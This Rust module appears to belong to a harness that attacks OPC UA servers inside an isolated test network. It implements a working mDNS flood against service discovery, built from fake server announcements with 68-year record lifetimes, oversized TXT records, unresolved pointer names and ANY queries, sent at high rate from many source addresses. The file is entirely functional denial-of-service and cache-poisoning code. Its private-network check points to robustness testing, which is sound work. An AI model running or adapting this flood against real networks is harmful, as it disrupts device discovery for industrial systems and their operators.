//! Attack on discovery by mDNS: records that never expire, and names without end (RFC 6762, RFC 6763).

use std::net::{Ipv4Addr, SocketAddrV4, UdpSocket};
use std::time::Duration;

use crate::channel::Lost;
use crate::private_network::{self, NETWORK, SOURCES};
use crate::target::Attacker;

/// Group and port of mDNS.
const GROUP: SocketAddrV4 = SocketAddrV4::new(Ipv4Addr::new(224, 0, 0, 251), 5353);

/// Type of the announced services (OPC 10000-12, Annex C).
const SERVICE: &[&str] = &["_opcua-tcp", "_tcp", "local"];

/// Lifetime of the records in seconds: 68 years.
const LIFETIME: u32 = 1 << 31;

/// Bytes of a long TXT record. With its names, a message has less than 9000 bytes, the most that is permitted (RFC 6762, 17).
const LONG: usize = 8_500;

/// Messages at full strength, and those of each millisecond.
const MESSAGES: usize = 400_000;
const AT_ONCE: usize = 4;
const INTERVAL: Duration = Duration::from_millis(1);

/// Names in a message that announces servers without their addresses.
const UNRESOLVED: usize = 20;

/// Number of a name that comes again and again.
const KNOWN: usize = 0;

/// Types of records (RFC 1035, 3.2.2; RFC 3596; RFC 2782) and of a question for all of them.
mod kind {
    pub(super) const A: u16 = 1;
    pub(super) const PTR: u16 = 12;
    pub(super) const TXT: u16 = 16;
    pub(super) const SRV: u16 = 33;
    pub(super) const ANY: u16 = 255;
}

/// Sends announcements until the attack ends. Its thread must be in the network of an attack.
pub(crate) fn flood(attacker: &mut Attacker<'_>) -> Result<(), Lost> {
    // A multicast on another network would leave the host.
    if !private_network::is_private() {
        return Err(Lost::Victim("is not in the network of this attack"));
    }
    let mut sockets = Vec::new();
    for number in 1..=SOURCES {
        let socket = UdpSocket::bind(format!("{NETWORK}.{number}:0"))?;
        // The interface is that of the source address.
        socket.connect(GROUP)?;
        sockets.push(socket);
    }
    let messages = attacker.count(MESSAGES);
    for number in 0..messages {
        if !attacker.goes_on() {
            return Ok(());
        }
        let Some(socket) = sockets.get(number % sockets.len()) else {
            continue;
        };
        // A full queue of the interface is no refusal of the server.
        if socket.send(&message(number)).is_ok() {
            attacker.tally.messages += 1;
        }
        if number % AT_ONCE == 0 {
            std::thread::sleep(INTERVAL);
        }
    }
    attacker.hold();
    Ok(())
}

/// Returns the message of this number.
fn message(number: usize) -> Vec<u8> {
    match number % 6 {
        0 => announcement(number),
        // No pointer leads to these records.
        1 | 3 => responses(&[long_text(number)]),
        2 => {
            let names = (0..UNRESOLVED).map(|part| format!("Unknown{number}-{part}"));
            let records: Vec<_> = names.map(|name| pointer(&name)).collect();
            responses(&records)
        }
        4 => announcement(KNOWN),
        _ => query(number),
    }
}

/// Returns the announcement of a server, each at an address of its own: PTR, SRV, TXT and A.
fn announcement(number: usize) -> Vec<u8> {
    let (name, host) = (format!("Flood{number}"), format!("flood{number}"));
    let instance = instance(&name);
    let host = dns_name(&[&host, "local"]);
    let [_, high, middle, low] = u32::try_from(number).unwrap_or(u32::MAX).to_be_bytes();
    let service = [&[0; 4], &4840_u16.to_be_bytes()[..], &host].concat();
    responses(&[
        pointer(&name),
        record(&instance, kind::SRV, &service),
        record(&instance, kind::TXT, b"\x06path=/\x07caps=DA"),
        record(&host, kind::A, &[10, high, middle, low]),
    ])
}

fn pointer(name: &str) -> Vec<u8> {
    record(&dns_name(SERVICE), kind::PTR, &instance(name))
}

/// Returns a long TXT record of an instance that nobody has announced.
fn long_text(number: usize) -> Vec<u8> {
    let part = [&[u8::MAX][..], &[b'x'; u8::MAX as usize]].concat();
    let text = part.repeat(LONG / part.len());
    record(&instance(&format!("Lonely{number}")), kind::TXT, &text)
}

fn instance(name: &str) -> Vec<u8> {
    dns_name(&[&[name], SERVICE].concat())
}

/// Returns a message with answers.
fn responses(records: &[Vec<u8>]) -> Vec<u8> {
    let count = u16::try_from(records.len()).unwrap_or(u16::MAX);
    // Flags: response, authoritative.
    let mut message = header(0x8400, 0, count);
    message.extend(records.iter().flatten());
    message
}

/// Returns a question for everything that a name has: of the service, or of an instance.
fn query(number: usize) -> Vec<u8> {
    let name = match number % 4 {
        0 => dns_name(SERVICE),
        1 => dns_name(&["_services", "_dns-sd", "_udp", "local"]),
        _ => instance(&format!("Flood{number}")),
    };
    let mut message = header(0, 1, 0);
    message.extend(name);
    message.extend(kind::ANY.to_be_bytes());
    message.extend(1_u16.to_be_bytes());
    message
}

fn header(flags: u16, questions: u16, answers: u16) -> Vec<u8> {
    let fields = [0, flags, questions, answers, 0, 0];
    fields
        .iter()
        .flat_map(|field| field.to_be_bytes())
        .collect()
}

fn record(name: &[u8], kind: u16, data: &[u8]) -> Vec<u8> {
    let length = u16::try_from(data.len()).unwrap_or(u16::MAX);
    let mut record = name.to_vec();
    record.extend(kind.to_be_bytes());
    // Class IN, without the bit that replaces other records.
    record.extend(1_u16.to_be_bytes());
    record.extend(LIFETIME.to_be_bytes());
    record.extend(length.to_be_bytes());
    record.extend(data);
    record
}

/// Returns a DNS name. A label has 63 bytes at most.
fn dns_name(labels: &[&str]) -> Vec<u8> {
    let mut name = Vec::new();
    for label in labels {
        name.push(u8::try_from(label.len()).unwrap_or(63));
        name.extend(label.bytes());
    }
    name.push(0);
    name
}
